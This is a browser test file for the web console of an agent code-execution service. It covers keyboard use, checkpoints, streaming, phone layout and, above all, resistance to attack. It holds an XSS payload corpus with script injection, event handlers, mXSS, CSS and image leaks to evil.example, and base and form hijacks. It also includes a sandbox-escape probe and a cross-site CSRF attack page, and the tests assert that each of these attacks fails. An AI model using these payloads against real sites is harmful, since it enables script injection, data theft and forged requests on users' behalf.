"""The console in a real Chromium: used by keyboard, attacked through every text a guest controls."""

from __future__ import annotations

import http.server
import json
import threading

import console_browser as browser
import pytest
from clients import Api

from atoll.agent.trajectory import events as kinds
from atoll.agent.trajectory.events import to_dict
from atoll.service.access.keys import SCOPES

pytestmark = pytest.mark.skipif(browser.find() is None, reason="there is no Chromium on the PATH")

SET = "window.__xss=1"
CORPUS = [
    f"<script>{SET}</script>",
    f"<img src=x onerror={SET}>",
    f'"><svg onload={SET}>',
    f"'\"--><script>{SET}</script>",
    f"</textarea></title></style><script>{SET}</script>",
    f'<iframe srcdoc="<script>parent.__xss=1</script>"></iframe><iframe src="javascript:parent.{SET}">',
    f"<a href=javascript:{SET}>click</a> javascript:{SET}",
    f"<math><mtext><mglyph><style></math><img src onerror={SET}>",
    "<style>@import 'http://evil.example/leak';</style><link rel=stylesheet href=http://evil.example/leak>",
    "<img src=http://evil.example/leak><meta http-equiv=refresh content='0;url=http://evil.example/leak'>",
    f"${{{SET}}} {{{{constructor.constructor('{SET}')()}}}}",
    "<base href=http://evil.example/><form action=http://evil.example/><input name=key autofocus>",
    "\u202egnp.exe \u0000 \x1b]0;title\x07 \x1b[31mred",
]
WAITING = """import os, time
print('tick', 0, flush=True)
while not os.path.exists('go'): time.sleep(0.01)
print('tick', 1)
28"""
ALL = "\n".join(CORPUS)
LINE = " ".join(one for one in CORPUS if "\0" not in one)


def test_a_cell_is_typed_run_by_keyboard_and_read_as_it_prints(signed_in, service):
    page = signed_in("typist")
    assert page.run("location.href") == f"{service.url}/console"  # the secret is gone
    page.press("n")
    page.wait("document.querySelector('dialog input')")
    page.type("by hand")
    page.press("Enter")
    page.wait("document.querySelector('.composer .code-editor, .composer .code-area')")
    page.press("e")
    page.type(WAITING)
    page.press("Enter", control=True)
    page.see("tick 0")  # while it runs
    page.run("window.old = true; location.reload()")
    page.wait(
        "!window.old && document.querySelector('.cell.running .output')?.innerText.includes('tick 0')"
    )
    session = page.run("location.hash").rpartition("/")[2]
    with Api(service, service.add_key(tenant="typist", scopes=SCOPES)) as api:
        path = f"/api/v1/sessions/{session}/files/content"
        assert api.put(path, params={"path": "go"}, content=b"1").status_code == 204
    page.wait(
        "document.querySelector('.cell .badge.ok') && document.querySelector('.output .value')?.textContent === '28'"
    )
    assert page.run("document.querySelector('.output').innerText.match(/tick 0/g).length") == 1
    page.press("g")
    page.press("s")
    page.wait("document.querySelector('table.sessions tr[data-row]')")
    page.press("j")
    assert (
        page.run(
            "document.activeElement.matches('tr[data-row]') && getComputedStyle(document.activeElement).outlineStyle"
        )
        == "solid"
    )
    page.press("k", control=True)
    page.wait("document.querySelector('.palette input')")
    page.type("hea")
    page.press("Enter")
    page.see("Isolation")


def test_forks_checkpoints_and_files_by_mouse(signed_in, service):
    page = signed_in("gardener")
    with Api(service, service.add_key(tenant="gardener", scopes=SCOPES)) as api:
        session = api.session(metadata={"name": "root"})
        api.run(session, "x = 1; open('a.csv', 'w').write('k,v\\n1,2\\n')")
        page.goto(f"{service.url}/console#/sessions/{session.rpartition('/')[2]}")
        page.click("aside button", "Checkpoint")
        page.wait("document.querySelector('dialog input')")
        page.type("good")
        page.press("Enter")
        page.see("Roll back")
        api.run(session, "x = 2")
        page.click("aside button", "Roll back")
        page.click("dialog button", "Roll back")
        page.see("Rolled back.")
        assert api.run(session, "x")["value_repr"] == "1"
        page.click("[role=tab]", "Files")
        page.click(".file button", "a.csv")
        page.wait("document.querySelector('.csv td')?.textContent === '1'")
        page.click("[role=tab]", "Tree")
        page.click("aside button", "Fork")
        page.wait("document.querySelector('dialog input')")
        page.type("twin")
        page.press("Enter")
        page.wait("document.querySelector('.tree .here b')?.textContent === 'twin'")


def test_no_text_of_a_guest_becomes_markup(signed_in, service):
    page = signed_in("victim")
    with Api(service, service.add_key(tenant="victim", scopes=SCOPES, name=LINE[:200])) as api:
        session, run, context = _planted(api)
        routes = {
            "overview": "main .row", "sessions": "main tr[data-row]", f"sessions/{session}": ".cell .error, .cell .value",
            "contexts": "main tr[data-row]", f"contexts/{context}": ".text", "runs": "main tr[data-row]", f"runs/{run}": ".answer", "keys": "main tr[data-row]",
        }  # fmt: skip
        for route, there in routes.items():
            page.goto(f"{service.url}/console#/{route}")
            page.wait(f"document.querySelector({json.dumps(there)})", route)
            if route.startswith("sessions/"):
                _look_around(page)
            if route.startswith("contexts/"):
                page.run(
                    "document.querySelector('main input[type=search]').value = 'script'; document.querySelector('main form').requestSubmit()"
                )
                page.wait("document.querySelector('.hit')")
            if route.startswith("runs/"):
                for number in range(page.run("document.querySelectorAll('.step').length")):
                    page.run(f"document.querySelectorAll('.step')[{number}].click()")
            page.press("k", control=True)
            page.wait("document.querySelector('.found li')")
            page.press("Escape")
            shown = page.run("document.querySelector('main').innerText")
            assert SET in shown, route  # it is there, as text
            assert page.run(
                "[window.__xss, document.querySelectorAll('main script, main [onerror], main [onload], main base, main form[action]').length]"
            ) == [None, 0]
        assert "evil.example" not in " ".join(page.requests)


def test_what_a_guest_displays_reaches_neither_page_nor_network(signed_in, service):
    page = signed_in("framed")
    tries = {
        "parent": "parent.document.body", "cookie": "document.cookie", "storage": "localStorage.length", "top": "top.location.hash = '#/keys'",
        "open": "if (!window.open('/console')) throw 1", "frame": "parent.frames[0].document && parent.localStorage",
    }  # fmt: skip
    script = "const out = {};" + "".join(
        f"try {{ {one}; out.{name} = 'reached' }} catch {{ out.{name} = 'refused' }}"
        for name, one in tries.items()
    )
    script += "fetch('/api/v1/sessions').then(() => out.fetch = 'reached', () => out.fetch = 'refused').then(() => parent.postMessage(out, '*'))"
    html = f"<b>plain</b><script>{script}</script><img src=http://evil.example/leak>"
    with Api(service, service.add_key(tenant="framed", scopes=SCOPES)) as api:
        session = api.session()
        api.run(session, f"class H:\n    def _repr_html_(self): return {html!r}\nH()")
        page.goto(f"{service.url}/console#/sessions/{session.rpartition('/')[2]}")
        page.run(
            "window.told = null; addEventListener('message', (event) => { window.told = [event.origin, event.data]; })"
        )
        page.wait("document.querySelector('iframe')")
        assert page.run("document.querySelector('iframe').getAttribute('sandbox')") == ""
        page.click(".frame-note button", "Run its scripts")
        page.click("dialog button", "Run them")
        page.wait("window.told")
        assert (
            page.run("document.querySelector('iframe').getAttribute('sandbox')") == "allow-scripts"
        )
        assert page.run("window.told") == [
            "null",
            {**dict.fromkeys(tries, "refused"), "fetch": "refused"},
        ]
        assert "#/keys" not in page.run("location.href")


def test_pages_of_other_sites_and_ports_change_nothing(chromium, signed_in, service):
    page = signed_in("target")
    attack = """<body><script>
      const [to, out] = [location.hash.slice(1), []];
      const post = (path, options) => fetch(to + path, {method: 'POST', credentials: 'include', body: '{"code": "1"}', ...options}).then((r) => out.push(r.type + r.status), () => out.push('failed'));
      const form = document.createElement('form'); form.method = 'post'; form.action = to + '/api/v1/sessions'; form.enctype = 'text/plain'; form.target = 'sink';
      form.innerHTML = '<input name=\\'{"metadata":{"a":"\\' value=\\'b"}}\\'>'; document.body.append(form);
      const frame = document.createElement('iframe'); frame.name = 'sink'; document.body.append(frame);
      const framed = document.createElement('iframe'); framed.src = to + '/console'; document.body.append(framed);
      Promise.all([post('/api/v1/sessions', {mode: 'no-cors'}), post('/api/v1/sessions', {headers: {'x-atoll-csrf': 'x'}}), post('/console/logout', {mode: 'no-cors'}), post('/console/login', {mode: 'no-cors', body: '{"key": "x"}'})]).then(() => { frame.onload = () => { window.done = out; }; form.submit(); });
    </script>"""
    with (
        OtherSite(attack) as port,
        Api(service, service.add_key(tenant="target", scopes=SCOPES)) as api,
    ):
        for host in (
            "evil.example",
            "127.0.0.1",
        ):  # another site; the same site, which gets cookies
            page.goto(f"http://{host}:{port}/#{service.url}")
            page.wait("window.done")
            assert all(one in ("opaque0", "failed") for one in page.run("window.done")), host
        assert api.get("/api/v1/sessions").json()["items"] == []
        page.faults.clear()
        page.requests.clear()
        page.goto(f"{service.url}/console#/overview")
        page.see("No session yet")  # and it is still signed in


def test_a_run_elsewhere_is_watched_as_it_goes(signed_in, service):
    page, more = signed_in("watcher"), threading.Event()
    started = kinds.RunStarted(
        id="1", run="r", question="How many?", model="m", budget={"usd": 1.0}
    )
    turns = [
        kinds.CodeRan(id=f"t{n}", run="r", turn=n, code=f"step_{n}()", duration_ms=5)
        for n in (1, 2)
    ]
    ended = [
        kinds.FinalGiven(id="f", run="r", how="FINAL", text="Exactly seven."),
        kinds.RunEnded(id="e", run="r", outcome="answered", usd=0.25, seconds=1.0),
    ]

    def lines():
        for number, event in enumerate([started, *turns, *ended]):
            if number == 2:
                assert more.wait(60)
            yield json.dumps(to_dict(event)).encode() + b"\n"

    with Api(service, service.add_key(tenant="watcher", scopes=SCOPES)) as api:
        sender = threading.Thread(target=lambda: api.post("/api/v1/runs/upload", content=lines()))
        sender.start()
        page.goto(f"{service.url}/console#/runs")
        page.click("tr[data-row]", "How many?")
        page.see("Turn 1")
        assert page.run("document.querySelector('.head .badge').innerText") == "running"
        more.set()
        page.see("Exactly seven.")
        page.see("$0.2500 of $1.00")
        assert page.run("document.querySelector('.head .badge').innerText") == "answered"
        sender.join()


@pytest.mark.parametrize("dark", [False, pytest.param(True, marks=pytest.mark.long)])
def test_every_page_fits_a_phone(signed_in, service, dark):
    page = signed_in("walker", width=390, height=844, dark=dark)
    with Api(service, service.add_key(tenant="walker", scopes=SCOPES)) as api:
        session, run, context = _planted(api)
        for route in ("overview", "sessions", f"sessions/{session}", "contexts", f"contexts/{context}", "runs", f"runs/{run}", "health", "keys"):  # fmt: skip
            page.goto(f"{service.url}/console#/{route}")
            page.wait(
                "document.querySelector('main h1') && !document.querySelector('main > .loading')"
            )
            assert page.run("document.documentElement.scrollWidth") <= 390, route
    ground = page.run("getComputedStyle(document.body).backgroundColor")
    assert (ground == "rgb(15, 19, 20)") is dark


def test_without_the_editor_there_is_a_text_area_that_indents(signed_in):
    page = signed_in("plain")
    page.see("Outcomes")
    page.run(
        "import(document.querySelector('script').src.replace('main.js', 'editor.js')).then((module) => { window.ran = 0; window.typed = module.plain({ onrun: () => { ran += 1; }, text: '' }); document.querySelector('main').replaceChildren(typed.element); typed.focus(); })"
    )
    page.type("if x:")
    page.press("Enter")
    page.type("y")
    page.press("Tab")
    page.press("Enter", control=True)
    assert page.run("[typed.get(), ran]") == ["if x:\n    y    ", 1]


def test_a_stream_that_breaks_goes_on_where_it_was(signed_in):
    page = signed_in("broken")
    page.run("""(async () => {
      const { events } = await import(document.querySelector('script').src.replace('main.js', 'api.js'));
      const [real, asked] = [window.fetch, []];
      window.fetch = async (path, options) => {
        if (!path.includes('/executions/x/')) return real(path, options);
        asked.push(path.split('after=')[1]);
        if (asked.length === 2) throw new TypeError('network');
        const lines = asked.length === 1 ? ['{"seq":1,"type":"stdout"}\\n{"seq":2,"ty'] : ['{"seq":2,"type":"stdout"}\\n', '{"seq":3,"type":"result"}\\n'];
        const body = new ReadableStream({ pull(c) { if (lines.length) c.enqueue(new TextEncoder().encode(lines.shift())); else if (asked.length === 1) setTimeout(() => c.error(new TypeError('cut')), 50); else c.close(); } });
        return new Response(body);
      };
      const got = [];
      for await (const event of events('/executions/x/events')) got.push(event.seq);
      window.fetch = real;
      window.got = [got, asked];
    })()""")
    assert page.run("window.got") == [[1, 2, 3], ["0", "1", "1"]]


def _look_around(page):
    """Open every tab beside the cells, and look into every file."""
    for name in ("Variables", "Facts", "Files"):
        page.click("[role=tab]", name)
    page.wait("document.querySelectorAll('.file').length > 5")
    for number in range(page.run("document.querySelectorAll('.file').length")):
        page.run(f"document.querySelectorAll('.file')[{number}].querySelector('button').click()")
        page.wait("document.querySelector('.preview pre, .preview table')")
    page.wait("document.querySelector('.displays img') && document.querySelector('iframe')")


def _planted(api):
    """Put the corpus wherever a guest, or a client, may write; return a session, run and context."""
    context = api.post("/api/v1/contexts", params={"name": LINE}, content=ALL.encode()).json()["id"]
    session = api.session(metadata={"name": LINE[:250], LINE[:200]: LINE[:200]})
    code = (
        "import sys\n" f"t = {ALL!r}\n" "print(t); print(t, file=sys.stderr)\n"
        f"for n, one in enumerate({[one for one in CORPUS if '/' not in one and chr(0) not in one]!r}): open(one[:200], 'w').write(t.replace(chr(0), ''))\n"
        "for n in ('a.csv', 'a.svg', 'a.html'): open(n, 'w').write(t.replace(chr(0), ''))\n"
        "odd = type(t[:60], (), {'__repr__': lambda s: t})()\n"
    )  # fmt: skip
    api.run(session, code)
    api.run(session, "odd")
    shown = "{'text/html': t, 'text/markdown': t, 'text/latex': t, 'application/json': {'x': t}, 'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\">' + t}"
    api.run(session, f"class D:\n    def _repr_mimebundle_(self, **k): return {shown}\nD()")
    api.run(session, "raise type('X', (Exception,), {'__qualname__': t[:50]})(t)")
    api.post(f"{session}/shell", json={"command": f"echo {LINE!r}"})
    api.post(f"{session}/checkpoints", json={"name": LINE[:250]})
    api.post(f"{session}/fork", json={"name": LINE[:250]})
    lines = [json.dumps(to_dict(one)) for one in _events(context)]
    lines.append(json.dumps({"event": LINE, "run": "r", "id": "odd", "x": LINE}))
    run = api.post("/api/v1/runs/upload", content="\n".join(lines).encode()).json()["id"]
    return session.rpartition("/")[2], run, context


def _events(context):
    more = {"run": "r", "at": LINE[:60]}
    usage = {"turn": 1, "code": ALL, "observation": ALL, "outcome": LINE[:100], "isolation": LINE}
    return [
        kinds.RunStarted(id="1", question=LINE, model=LINE, sub_model=LINE, context={"id": context, "name": LINE}, **more),
        kinds.Planned(id="2", way=LINE, why=LINE, strategy=LINE, **more),
        kinds.ModelAsked(id="3", call="m", model=LINE, messages=({"role": LINE, "content": ALL},), **more),
        kinds.ModelAnswered(id="4", call="m", text=ALL, **more),
        kinds.SubcallStarted(id="5", call="s", kind=LINE, prompt=ALL, **more),
        kinds.SubcallEnded(id="6", call="s", answer=ALL, error=LINE, ended=LINE, **more),
        kinds.CodeRan(id="7", calls=({"tool": LINE, "outcome": LINE},), network=({"place": LINE, "method": LINE, "path": LINE},), **usage, **more),
        kinds.Refused(id="8", what=LINE, why=LINE, **more),
        kinds.FinalGiven(id="9", how=LINE, text=ALL, reason=LINE, evidence=({"quote": LINE, "found": True, "start": 3, "end": 9}, {"quote": LINE, "found": False}), coverage={"map": [LINE, ".", "#"], "length": 9}, **more),
        kinds.RunEnded(id="10", outcome=LINE[:90], error=LINE, **more),
    ]  # fmt: skip


class OtherSite:
    """Another web site: one page at every path."""

    def __init__(self, page):
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def log_message(self, *_args):
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}
        )

    def __enter__(self):
        self._thread.start()
        return self._server.server_port

    def __exit__(self, *_exc):
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()
